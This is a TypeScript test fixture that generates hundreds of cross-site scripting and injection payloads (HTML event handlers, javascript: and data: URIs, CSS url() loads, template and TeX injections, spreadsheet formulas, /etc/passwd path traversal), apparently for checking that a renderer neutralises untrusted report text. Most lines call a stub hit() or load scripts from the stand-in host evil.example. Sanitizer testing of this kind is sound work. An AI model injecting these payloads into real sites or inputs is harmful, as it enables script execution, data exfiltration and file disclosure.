/**
 * What someone writes into a report who wants a reader's browser to run a script, ask another host, or send something there.
 * Each calls `hit()` or names `evil.example`; none of it may have an effect.
 */

const host = 'https://evil.example';

const handlers =
  'onload onerror onclick onmouseover onmouseenter onfocus onblur onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle onpointerover onpointerdown onwheel onscroll onscrollend onbegin onend onrepeat onpageshow onhashchange onmessage onpopstate onresize onstorage onunhandledrejection oncut oncopy onpaste oninput onchange onkeydown onsubmit onsecuritypolicyviolation oncontentvisibilityautostatechange'.split(
    ' ',
  );

const elements = (handler: string): readonly string[] => [
  `<img src=x ${handler}=hit()>`,
  `<svg ${handler}="hit()"><animate attributeName=x dur=1s></svg>`,
  `<b ${handler}='hit()' tabindex=0 autofocus style="animation:x 1s">b</b>`,
  `<details open ${handler}=hit()><summary>s</summary>d</details>`,
];

const whole = [
  `<script>hit()</script>`,
  `<script src="${host}/x.js"></script>`,
  `<script type=module>import "${host}/x.js"</script>`,
  `<script>import("${host}/y.js")</script>`,
  `<SCRIPT>hit()</SCRIPT>`,
  `<scr<script>ipt>hit()</scr</script>ipt>`,
  `<script/x>hit()</script>`,
  `<script\n>hit()</script>`,
  `<iframe src="javascript:hit()"></iframe>`,
  `<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<iframe src="${host}"></iframe>`,
  `<object data="${host}/x.swf"></object>`,
  `<object data="data:text/html,<script>hit()</script>"></object>`,
  `<embed src="${host}/x">`,
  `<base href="${host}/">`,
  `<link rel=stylesheet href="${host}/x.css">`,
  `<link rel=preload as=image href="${host}/x.png">`,
  `<link rel=dns-prefetch href="${host}">`,
  `<link rel=prefetch href="${host}/p">`,
  `<meta http-equiv=refresh content="0;url=${host}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<style>@import "${host}/x.css";</style>`,
  `<style>*{background:url(${host}/x.png)}</style>`,
  `<p style="background:url(${host}/x.png)">p</p>`,
  `<form action="${host}"><input name=q><button>go</button></form>`,
  `<form><button formaction="javascript:hit()">go</button></form>`,
  `<input autofocus onfocus=hit()>`,
  `<textarea autofocus onfocus=hit()></textarea>`,
  `<select autofocus onfocus=hit()></select>`,
  `<video src="${host}/v" autoplay></video>`,
  `<video><source onerror=hit()></video>`,
  `<audio src="${host}/a" autoplay></audio>`,
  `<img src="${host}/i.png">`,
  `<img srcset="${host}/i.png 1x">`,
  `<picture><source srcset="${host}/p.png"><img></picture>`,
  `<svg><script>hit()</script></svg>`,
  `<svg><image href="${host}/x.png"/></svg>`,
  `<svg><use href="${host}/x.svg#a"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'><script>hit()</script></svg>#x"/></svg>`,
  `<svg><a xlink:href="javascript:hit()"><text y=20>t</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:hit()"/></svg>`,
  `<svg><set attributeName=onmouseover to=hit() /></svg>`,
  `<svg><foreignObject><iframe src="javascript:hit()"></iframe></foreignObject></svg>`,
  `<svg><style>*{fill:url(${host}/x.svg#a)}</style></svg>`,
  `<svg/onload=hit()>`,
  `<svg><desc><![CDATA[</desc><script>hit()</script>]]></svg>`,
  `<math><maction actiontype="statusline#${host}" xlink:href="javascript:hit()">m</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>`,
  `<math href="javascript:hit()">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>`,
  `<template><script>hit()</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>`,
  `<title></title><script>hit()</script>`,
  `<plaintext><script>hit()</script>`,
  `<body onload=hit()>`,
  `<html onload=hit()>`,
  `<frameset onload=hit()>`,
  `<marquee onstart=hit()>m</marquee>`,
  `<isindex type=image src=x onerror=hit()>`,
  `<keygen autofocus onfocus=hit()>`,
  `<dialog open onclose=hit()>d</dialog>`,
  `<portal src="${host}"></portal>`,
  `<a href="javascript:hit()">a</a>`,
  `<a href=" javascript:hit()">a</a>`,
  `<a href="java&#115;cript:hit()">a</a>`,
  `<a href="java\tscript:hit()">a</a>`,
  `<a href="&#x6A;avascript&colon;hit()">a</a>`,
  `<a href="data:text/html,<script>hit()</script>">a</a>`,
  `<a href="vbscript:hit()">a</a>`,
  `<a href="blob:${host}/x">a</a>`,
  `<a ping="${host}" href="#x">a</a>`,
  `<area href="javascript:hit()">`,
  `<map><area href="javascript:hit()"></map>`,
  `<div id=colophon></div><div id=__proto__></div>`,
  `<a id=given></a><a id=given name=give></a>`,
  `<img name=getElementById><img name=querySelector>`,
  `<form id=document><input name=body></form>`,
  `<!--><img src=x onerror=hit()>-->`,
  `<!--!><img src=x onerror=hit()>`,
  `<!-- --!><img src=x onerror=hit()> -->`,
  `<![CDATA[><img src=x onerror=hit()>]]>`,
  `<?xml version="1.0"?><img src=x onerror=hit()>`,
  `<!DOCTYPE x [<!ENTITY e "<script>hit()</script>">]>&e;`,
  `<p title="x" title='"><img src=x onerror=hit()>'>p</p>`,
  `<p title=x"onmouseover=hit()>p</p>`,
  `<p class="x" onclick="hit()"/onmouseover="hit()">p</p>`,
  `<p/onmouseover=hit()/>p`,
  `<p\u0000onclick=hit()>p</p>`,
  `<img\u00a0src=x\u00a0onerror=hit()>`,
  `<img src=x\u000conerror=hit()>`,
  `<img src="x" "onerror=hit()>`,
  `<img src=\`x\` onerror=hit()>`,
  `<img src=x onerror\n=\nhit()>`,
  `<img src=x oNeRrOr=hit()>`,
  `<img src=x onerror=&#104;it()>`,
  `<<img src=x onerror=hit()>`,
  `<img src=x onerror=hit()//`,
  `<table><td background="${host}/x.png">t</td></table>`,
  `<table background="javascript:hit()"><tr><td>t</table>`,
  `<ol><li><script>hit()</script></ol>`,
  `<summary><img src=x onerror=hit()></summary>`,
  `<p lang="x&quot; onclick=&quot;hit()">p</p>`,
  `<p title="&quot;><script>hit()</script>">p</p>`,
];

/** Out of where the text stands, and then what acts. */
const acts = [`<script>hit()</script>`, `<img src=x onerror=hit()>`, `<svg onload=hit()>`];
const breakouts = [
  ...['"', "'", '">', "'>", '"/>', '-->', '--!>', ']]>', '</p>', '</title>', '</style>', '</script>', '</textarea>'],
  ...['</noscript>', '</svg>', '</text>', '</tspan>', '</math>', '</code></pre>', '</a>', '</figure>', '</details>'],
  ...[
    '</template>',
    '</xmp>',
    '</iframe>',
    '</h2>',
    '</li></ul>',
    '</td></tr></table>',
    '\u2028',
    '\u2029',
    '\\',
    '\\"',
  ],
].flatMap((out) => acts.map((act) => `${out}${act}`));

const inAttributes = [
  ...['"', "'", '` ', '" ', "' "].flatMap((quote) => [
    `${quote}onmouseover=${quote.trim()}hit()`,
    `${quote} autofocus tabindex=0 onfocus=hit() x=${quote.trim()}`,
    `${quote} style=${quote.trim()}background:url(${host}/x)`,
  ]),
];

const inScripts = [
  ...[
    '");hit();//',
    "');hit();//",
    '`);hit();//',
    '${hit()}',
    '";hit();"',
    '}hit(){',
    ')});hit();({',
    '\u2028hit()\u2029',
  ],
  ...['</script><script>hit()</script>', '<!--<script>hit()</script>-->', '\\u003cscript>hit()\\u003c/script>'],
  ...[
    '{{hit()}}',
    '{{constructor.constructor("hit()")()}}',
    '{{{raw}}}',
    '{{> head}}',
    '{{#with "x"}}{{lookup}}{{/with}}',
  ],
  ...['<%= hit() %>', '#{hit()}', '[[${hit()}]]', '{%raw%}', '@{hit()}', '$$hit()$$', '`= hit()`', '`claim hit() < 1`'],
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'constructor.prototype'],
];

const schemes = [
  ...['javascript:hit()', 'JaVaScRiPt:hit()', 'java\tscript:hit()', 'java\nscript:hit()', ' javascript:hit()'],
  ...[
    '\u0001javascript:hit()',
    'javascript&colon;hit()',
    'javascript&#58;hit()',
    'javascript\\:hit()',
    'javascript%3Ahit()',
  ],
  ...[
    'javascript://x%0ahit()',
    'view-source:javascript:hit()',
    'vbscript:hit()',
    'livescript:hit()',
    'jar:javascript:hit()',
  ],
  ...['data:text/html,<script>hit()</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=='],
  ...['data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>', 'data:application/xhtml+xml,x'],
  ...[
    'data:text/css,*{}',
    'blob:null/x',
    'filesystem:x',
    'file:///etc/passwd',
    '//evil.example/x',
    '\\\\evil.example\\x',
  ],
  ...[
    `${host}/x.png`,
    'http:evil.example',
    'https:/evil.example/x',
    '/\\evil.example',
    'ws://evil.example',
    'ftp://evil.example',
  ],
  ...[
    'about:blank',
    'chrome://settings',
    'intent://x#Intent;end',
    'tel:1',
    'mailto:x@evil.example?body=<script>',
    '#"><script>',
  ],
  ...[
    '../../../../etc/passwd',
    '..%2f..%2fetc/passwd',
    '.git/config',
    '%2e%2e/x',
    'x.html?<script>hit()</script>',
    'x#javascript:hit()',
  ],
];

const markdown = schemes.flatMap((address) => [
  `[a](${address})`,
  `[a](<${address}>)`,
  `![a](${address})`,
  `<${address}>`,
  `[a]: ${address}\n\n[a]`,
]);

const styles = [
  ...[`url(${host}/x)`, `url("${host}/x")`, `URL(//evil.example)`, `u\\72l(${host})`, `image-set("${host}/x" 1x)`],
  ...[
    `expression(hit())`,
    `-moz-binding:url(${host})`,
    `red;background:url(${host})`,
    `var(--x, url(${host}))`,
    `@import "${host}"`,
  ],
  ...[`src(${host})`, `attr(href url)`, `paint(x)`, `cross-fade(url(${host}),red)`, `red}*{background:url(${host})`],
];

const tex = [
  ...[`\\href{javascript:hit()}{x}`, `\\url{javascript:hit()}`, `\\includegraphics{${host}/x.png}`, `\\htmlId{x}{y}`],
  ...[`\\htmlData{onclick=hit()}{x}`, `\\htmlStyle{background:url(${host})}{x}`, `\\htmlClass{x" onclick="hit()}{y}`],
  ...[
    `\\text{<script>hit()</script>}`,
    `\\color{url(${host})}{x}`,
    `\\def\\x{\\x\\x}\\x`,
    `\\unicode{60}script`,
    `\\style{x}{y}`,
  ],
  ...[
    `\\tag{<img src=x onerror=hit()>}`,
    `\\operatorname{</math><script>hit()</script>}`,
    `\\input{/etc/passwd}`,
    `\\write18{id}`,
  ],
  ...[
    `\\require{html}\\href{javascript:hit()}{x}`,
    `\\begin{array}{c"onclick=hit()}x\\end{array}`,
    `x^{\\style{position:fixed}{y}}`,
  ],
];

const expressions = [
  `constructor.constructor('hit()')()`,
  `datum.constructor.constructor('hit()')()`,
  `this.constructor`,
  `event.view.hit()`,
  `event.view.alert(1)`,
  `open('${host}')`,
  `[].map.call`,
  `({}).toString.constructor('hit()')()`,
  `{a: hit()}`,
  `hit()`,
  `fetch('${host}')`,
  `eval('hit()')`,
  `window.hit()`,
  `'<img src=x onerror=hit()>'`,
  `'javascript:hit()'`,
  `'url(${host}/x.svg#a)'`,
];

const odd = [
  ...[
    '\u202etpircs<',
    '\u200b<\u200bscript>hit()',
    '\ufeff<script>hit()</script>',
    '＜script＞hit()＜/script＞',
    '\u0000',
    '\u001b[31m',
  ],
  ...[
    '%3Cscript%3Ehit()%3C/script%3E',
    '&lt;script&gt;hit()&lt;/script&gt;',
    '&amp;lt;script&amp;gt;',
    '&#60;script&#62;hit()&#60;/script&#62;',
  ],
  ...[
    '+ADw-script+AD4-hit()+ADw-/script+AD4-',
    '\\x3cscript\\x3ehit()',
    '=HYPERLINK("https://evil.example")',
    '@SUM(1)*cmd|x',
    '-1+1',
  ],
  ...[
    'a'.repeat(5000),
    '<'.repeat(200),
    '\uD83D\uDE00<script>hit()</script>',
    'ﬀ\u0338<b>',
    '://',
    '.',
    '..',
    'CON',
    'x\ny\nz',
  ],
];

/** All of them, each once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...whole,
    ...handlers.flatMap(elements),
    ...breakouts,
    ...inAttributes,
    ...inScripts,
    ...schemes,
    ...markdown,
    ...styles,
    ...tex,
    ...expressions,
    ...odd,
  ]),
];

/** So many, spread evenly. */
export function sampleOf(count: number): readonly string[] {
  const take = Math.min(count, payloads.length);
  return Array.from({ length: take }, (_, index) => payloads[Math.floor((index * payloads.length) / take)] ?? '');
}
